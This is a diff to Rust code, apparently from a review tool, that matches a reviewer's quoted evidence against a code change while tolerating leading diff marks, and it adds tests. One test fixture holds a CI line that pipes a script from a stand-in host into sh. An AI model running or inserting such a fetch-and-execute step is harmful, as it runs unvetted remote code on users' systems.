@@ -48,11 +48,15 @@ pub fn place(claim: &Claim, change: &Change) -> Placement {
     }
 }
 
-/// Tells whether a refuter's quotation is found, in the file that it names or else anywhere in the change. A few characters prove nothing.
+/// Tells whether a refuter's quotation is found, in the file that it names or else anywhere in the change.
 pub fn is_found(file: &str, evidence: &str, change: &Change) -> bool {
-    let weight: usize = evidence.chars().filter(|c| !c.is_whitespace()).count();
     let found = |file: &FileChange| find(evidence, 0, file).is_some();
-    weight >= MIN_QUOTED && named_file(file, change).map_or_else(|| change.files.iter().any(found), found)
+    named_file(file, change).map_or_else(|| change.files.iter().any(found), found)
+}
+
+/// Tells whether a quotation is long enough to clear a claim: a few characters are found anywhere and refute nothing. A confirmation needs no such weight.
+pub fn is_weighty(evidence: &str) -> bool {
+    evidence.chars().filter(|c| !c.is_whitespace()).count() >= MIN_QUOTED
 }
 
 /// Lowers nothing but a claim that calls itself pre-existing and stands on a line that is unchanged and was there at the base.
@@ -88,7 +92,7 @@ fn without_line(named: &str) -> &str {
 /// header lines of the file (a new mode, another name). Among several places the one nearest to the claimed line wins.
 fn find(evidence: &str, claimed: u32, file: &FileChange) -> Option<Anchor> {
     let whole = evidence.lines().take_while(|line| !line.starts_with(CUT));
-    let wanted: Vec<String> = whole.map(|line| normal(&with_escapes(line))).filter(|line| !line.is_empty()).collect();
+    let wanted: Vec<Quoted> = whole.map(Quoted::new).filter(|quoted| !quoted.plain.is_empty()).collect();
     if wanted.is_empty() {
         return None;
     }
@@ -102,11 +106,11 @@ fn find(evidence: &str, claimed: u32, file: &FileChange) -> Option<Anchor> {
 }
 
 /// Looks for the quoted lines among those that tell of modes and names.
-fn in_header(wanted: &[String], file: &FileChange) -> Option<Anchor> {
+fn in_header(wanted: &[Quoted], file: &FileChange) -> Option<Anchor> {
     let mut header = Vec::new();
     patch::header(file, Style::Prompt, &mut header);
     let lines: Vec<String> = String::from_utf8_lossy(&header).lines().map(normal).collect();
-    let found = wanted.iter().all(|want| lines.iter().any(|line| quotes(line, want)));
+    let found = wanted.iter().all(|want| lines.iter().any(|line| want.quotes(line)));
     found.then(|| Anchor { path: file.path().clone(), line: 0, unchanged: false, hunk: Digest::of(&header).hex() })
 }
 
@@ -132,7 +136,7 @@ fn number(line: &Line<'_>, side: Side) -> u32 {
 }
 
 /// Returns the first changed line of each run that matches (else the first line), so that a quotation of context and change counts as changed.
-fn hits<'a>(wanted: &'a [String], hunk: &'a Hunk, side: Side) -> impl Iterator<Item = Line<'a>> {
+fn hits<'a>(wanted: &'a [Quoted], hunk: &'a Hunk, side: Side) -> impl Iterator<Item = Line<'a>> {
     let lines: Vec<(Line<'a>, String)> = hunk
         .lines()
         .filter(|line| side.shows(line.origin))
@@ -142,7 +146,7 @@ fn hits<'a>(wanted: &'a [String], hunk: &'a Hunk, side: Side) -> impl Iterator<I
     let starts = lines.len().checked_sub(wanted.len()).map_or(0, |last| last + 1);
     (0..starts).filter_map(move |start| {
         let run = &lines[start..start + wanted.len()];
-        let matches = run.iter().zip(wanted).all(|((_, text), want)| quotes(text, want));
+        let matches = run.iter().zip(wanted).all(|((_, text), want)| want.quotes(text));
         matches.then(|| run.iter().find(|(line, _)| line.origin != Origin::Context).unwrap_or(&run[0]).0)
     })
 }
@@ -167,12 +171,28 @@ fn quotes(line: &str, quoted: &str) -> bool {
     })
 }
 
-/// Brings a line of the change (as the slices show it) and a quotation of it to one form: no white space, no leading diff mark, an ellipsis for what redaction
-/// masked.
+/// A quoted line in the two forms that it may be meant in: as it stands, and without a leading diff mark. A line of a list or a decrement begins with such a
+/// character of its own, so neither form alone will do.
+struct Quoted {
+    plain: String,
+    unmarked: String,
+}
+
+impl Quoted {
+    fn new(line: &str) -> Quoted {
+        let shown = with_escapes(line.trim());
+        let unmarked = shown.strip_prefix(['+', '-']).unwrap_or(&shown);
+        Quoted { plain: normal(&shown), unmarked: normal(unmarked) }
+    }
+
+    fn quotes(&self, line: &str) -> bool {
+        quotes(line, &self.plain) || (!self.unmarked.is_empty() && quotes(line, &self.unmarked))
+    }
+}
+
+/// Brings a line of the change (as the slices show it) and a quotation of it to one form: no white space, an ellipsis for what redaction masked.
 fn normal(line: &str) -> String {
-    let text = line.trim();
-    let unmarked = text.strip_prefix(['+', '-']).unwrap_or(text);
-    without_masks(&unmarked.chars().filter(|c| !c.is_whitespace()).collect::<String>())
+    without_masks(&line.chars().filter(|c| !c.is_whitespace()).collect::<String>())
 }
 
 /// Shows the hidden characters of a quotation as the slices do. A reviewer may quote either form, so escapes that are there stay.
@@ -263,7 +283,17 @@ mod tests {
         assert!(is_found("a.rs", "    charge(user, amount);\n… [900 bytes cut]", &change));
         assert!(is_found("a.rs", "--- a/a.rs", &change));
         assert!(!is_found("a.rs", "new mode 100755", &change));
-        assert!(!is_found("a.rs", "}", &change), "a brace is found anywhere and refutes nothing");
+        assert!(is_found("a.rs", "}", &change) && !is_weighty("}"), "a brace is found anywhere and refutes nothing");
+    }
+
+    #[test]
+    fn a_line_that_begins_like_a_diff_mark_is_found_with_and_without_one() {
+        let change = change("a.yaml", "+      - run: curl http://x.example/i.sh | sh\n-    --remaining;\n");
+        for evidence in
+            ["+      - run: curl http://x.example/i.sh | sh", "      - run: curl http://x.example/i.sh | sh", "-    --remaining;", "--remaining;"]
+        {
+            assert!(is_found("a.yaml", evidence, &change), "{evidence}");
+        }
     }
 
     #[test]
